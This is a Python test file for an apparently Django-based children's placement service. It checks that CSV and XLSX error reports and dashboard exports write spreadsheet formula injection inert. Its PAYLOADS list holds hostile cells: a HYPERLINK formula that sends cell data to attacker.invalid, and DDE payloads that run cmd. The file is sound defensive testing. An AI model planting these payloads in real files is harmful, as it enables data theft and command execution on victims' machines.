"""Attack: CSV formula injection. A cell that starts with = + - @ (or a tab or carriage return) is run by
a spreadsheet. Uploaded SSDA903 cells reach error reports (web, API, command) and setting names from the
shared Ofsted register reach every authority's market CSV: each export must write them inert."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from placements.importing import ssda903_import
from placements.models import ImportJob, Setting
from sufficiency.api.services import api_client_create
from sufficiency.authorities.models import LocalAuthority
from sufficiency.core.csv import BOM, csv_text, resanitise, safe_cell
from tests.dashboards.conftest import (
    register,  # noqa: F401 - the dashboards' hand-built register
    rollup,  # noqa: F401 - the hand-built register's rollup
)
from tests.ssda903_files import episodes, header

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://attacker.invalid/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix(BOM))) for cell in row]


def _assert_inert(text: str) -> None:
    live = [cell for cell in _cells(text) if cell.startswith(("=", "@", "\t", "\r")) or cell.startswith(("+", "-")) and not cell.lstrip("+-").replace(".", "").replace(",", "").rstrip("%").isdigit()]  # fmt: skip
    assert not live, live


@pytest.fixture(autouse=True)
def _fresh_throttle():
    cache.clear()
    yield
    cache.clear()


def _poisoned_files() -> list[tuple[str, bytes]]:
    """A child whose episode has a formula as its placement type (PLACE) and as its postcode (the reader
    splits on commas, so these payloads have none)."""
    return [
        ("header.csv", header({"CHILD": "W0001", "DOB": "17/05/2012"})),
        ("episodes.csv", episodes({"CHILD": "W0001", "DECOM": "01/04/2024", "PLACE": PAYLOADS[2], "PL_POST": PAYLOADS[4]})),
    ]  # fmt: skip


def test_the_helper_prefixes_formula_cells_and_keeps_numbers_and_quoting():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("-12") == "-12" and safe_cell("+3.5%") == "+3.5%" and safe_cell(-4) == -4
    assert safe_cell("Oak Lodge") == "Oak Lodge" and safe_cell(None) is None
    text = csv_text(["name", "note"], [['Say "hi", then =1+1', "a\nb"]])
    assert list(csv.reader(io.StringIO(text))) == [["name", "note"], ['Say "hi", then =1+1', "a\nb"]]
    assert resanitise(resanitise("=1+1\r\n")) == "'=1+1\r\n"  # idempotent: never a second apostrophe


def test_an_ssda903_error_report_writes_uploaded_formulas_inert(walsall):
    # Refused (strict) or imported under the policy (the bad rows held back): the report is inert either way.
    for strict in (True, False):
        outcome = ssda903_import(authority=walsall, files=_poisoned_files(), strict=strict)
        assert outcome.ok is not strict
        report = outcome.error_report_csv
        assert "'" + PAYLOADS[2] in _cells(report)
        _assert_inert(report)


def test_the_import_command_writes_an_inert_report_with_a_byte_order_mark(walsall, tmp_path):
    paths = []
    for name, content in _poisoned_files():
        path = tmp_path / name
        path.write_bytes(content)
        paths.append(str(path))
    report = tmp_path / "errors.csv"
    with pytest.raises(CommandError):
        call_command(
            "import_ssda903", "--authority", "335", "--strict", *paths, "--error-report", str(report)
        )
    raw = report.read_bytes()
    assert raw.startswith(BOM.encode())
    assert "'" + PAYLOADS[2] in _cells(raw.decode("utf-8-sig"))
    _assert_inert(raw.decode("utf-8-sig"))


@pytest.fixture
def poisoned_job(walsall):
    """An import whose stored report holds raw formulas (as reports stored before the fix do)."""
    report = "file,row,column,value,message\n" + "".join(
        f"episodes.csv,{n},PLACE,{_quote(p)},Unknown code\n" for n, p in enumerate(PAYLOADS, start=2)
    )
    return ImportJob.objects.create(
        authority=walsall, status="failed", error_report=report, error_count=len(PAYLOADS)
    )


def _quote(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def test_the_web_error_report_download_is_inert(client, data_manager, poisoned_job):
    client.force_login(data_manager)
    response = client.get(reverse("placements:import-errors", kwargs={"code": "335", "pk": poisoned_job.pk}))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(BOM.encode())
    text = response.content.decode("utf-8-sig")
    assert "'" + PAYLOADS[0] in _cells(text)
    _assert_inert(text)


def test_the_api_error_report_download_is_inert(walsall, poisoned_job):
    token = api_client_create(authority=walsall, name="imports", scopes=["write:import"])[1]
    response = APIClient().get(
        f"/api/v1/imports/{poisoned_job.pk}/errors/", HTTP_AUTHORIZATION=f"Bearer {token}"
    )
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'" + PAYLOADS[2] in _cells(text)
    _assert_inert(text)


def test_a_setting_name_from_the_ofsted_register_is_inert_in_another_authoritys_market_csv(
    client,
    la_user,
    register,  # noqa: F811
):
    from sufficiency.dashboards.services import dashboard_rollup_compute

    # SC0002 is a Sandwell home near Walsall: its name is shared reference data Walsall's market lists.
    Setting.objects.filter(urn="SC0002").update(name=PAYLOADS[0])
    dashboard_rollup_compute(authority=register["walsall"])
    client.force_login(la_user)
    url = reverse("dashboards:csv", kwargs={"code": "335", "page": "market", "key": "settings"})
    response = client.get(url)
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'" + PAYLOADS[0] in _cells(text)
    _assert_inert(text)


def test_the_unmet_need_ledger_csv_goes_through_the_helper(client, la_user):
    client.force_login(la_user)
    response = client.get(reverse("placements:finding-ledger-csv", kwargs={"code": "335"}))
    assert response.status_code == 200
    assert response.content.startswith(BOM.encode())
    _assert_inert(response.content.decode("utf-8-sig"))


def _xlsx_cells(content: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row if isinstance(cell, str)]


def _downloads(client, page_url: str) -> list[str]:
    """Every CSV link of a page (each table and chart of it offers one)."""
    body = client.get(page_url).content.decode()
    return sorted({link.replace("&amp;", "&") for link in re.findall(r'href="([^"]*/csv/[^"?]+/)"', body)})


def _poison_shared_names() -> None:
    """Text the authority did not write: every setting's name on the shared Ofsted register, and the name of
    a neighbouring authority (reference data shown in the gap and region tables)."""
    for n, setting in enumerate(Setting.objects.order_by("urn")):
        setting.name = PAYLOADS[n % len(PAYLOADS)]
        setting.save(update_fields=["name"])
    LocalAuthority.objects.filter(dfe_code="333").update(name=PAYLOADS[0])


# The overview's tables hold only figures and the service's own labels, nothing that starts like a formula.
@pytest.mark.parametrize("page", ["forecast", "gap", "market"])
def test_every_table_download_of_a_dashboard_page_is_inert_as_csv_and_xlsx(client, la_user, register, page):  # noqa: F811
    from forecasting.gap_services import gap_assessment_compute
    from sufficiency.dashboards.services import dashboard_rollup_compute

    _poison_shared_names()
    gap_assessment_compute(authority=register["walsall"])
    dashboard_rollup_compute(authority=register["walsall"])
    client.force_login(la_user)
    links = _downloads(client, reverse(f"dashboards:{page}", kwargs={"code": "335"}))
    assert links, "the page offers no download"
    seen = []
    for link in links:
        response = client.get(link)
        assert response.status_code == 200, link
        _assert_inert(response.content.decode("utf-8-sig"))
        seen += _cells(response.content.decode("utf-8-sig"))
        xlsx = client.get(link, {"format": "xlsx"})
        assert xlsx.status_code == 200, link
        cells = _xlsx_cells(xlsx.content)
        assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))], link
    # Something formula-like reached the page's downloads, written inert: a shared name (gap, market) or
    # a range such as "-1 to 3" (forecast), which a spreadsheet would otherwise read as a formula.
    assert any(cell.startswith("'") for cell in seen)


def test_the_region_table_downloads_are_inert(client, regional_user, rollup):  # noqa: F811
    from sufficiency.dashboards.services import dashboard_rollup_compute

    LocalAuthority.objects.filter(dfe_code="333").update(name=PAYLOADS[1])
    dashboard_rollup_compute(authority=LocalAuthority.objects.get(dfe_code="333"))
    client.force_login(regional_user)
    links = _downloads(client, reverse("dashboards:region", kwargs={"region": "E12000005"}))
    assert reverse("dashboards:region-csv", kwargs={"region": "E12000005", "key": "authorities"}) in links
    seen = []
    for link in links:
        text = client.get(link).content.decode("utf-8-sig")
        _assert_inert(text)
        seen += _cells(text)
        _assert_inert("\r\n".join(_xlsx_cells(client.get(link, {"format": "xlsx"}).content)))
    assert "'" + PAYLOADS[1] in seen  # the poisoned name reached a download, written inert


def _csv_file(path, rows) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path.write_text(buffer.getvalue())
    return str(path)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_import_ofsted_command_report_is_inert(walsall, tmp_path, payload):
    bad = _csv_file(
        tmp_path / "bad.csv", [["URN", "Provision type", "Places"], ["SC1", "Children's home", payload]]
    )
    report = tmp_path / "errors.csv"
    with pytest.raises(CommandError):
        call_command("import_ofsted", bad, "--error-report", str(report))
    raw = report.read_bytes()
    assert raw.startswith(BOM.encode())
    text = raw.decode("utf-8-sig")
    assert "'" + payload.strip("\t\r") in [c.strip("\t\r") for c in _cells(text)] or "'" + payload in _cells(
        text
    )
    _assert_inert(text)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_import_households_command_report_is_inert(walsall, tmp_path, payload):
    path = _csv_file(
        tmp_path / "households.csv",
        [["reference", "route", "approval_date", "approved_places"], ["H1", payload, "01/01/2020", "2"]],
    )
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_households", "--authority", "335", path, stderr=err)
    text = err.getvalue()
    assert "route" in text
    _assert_inert(text)
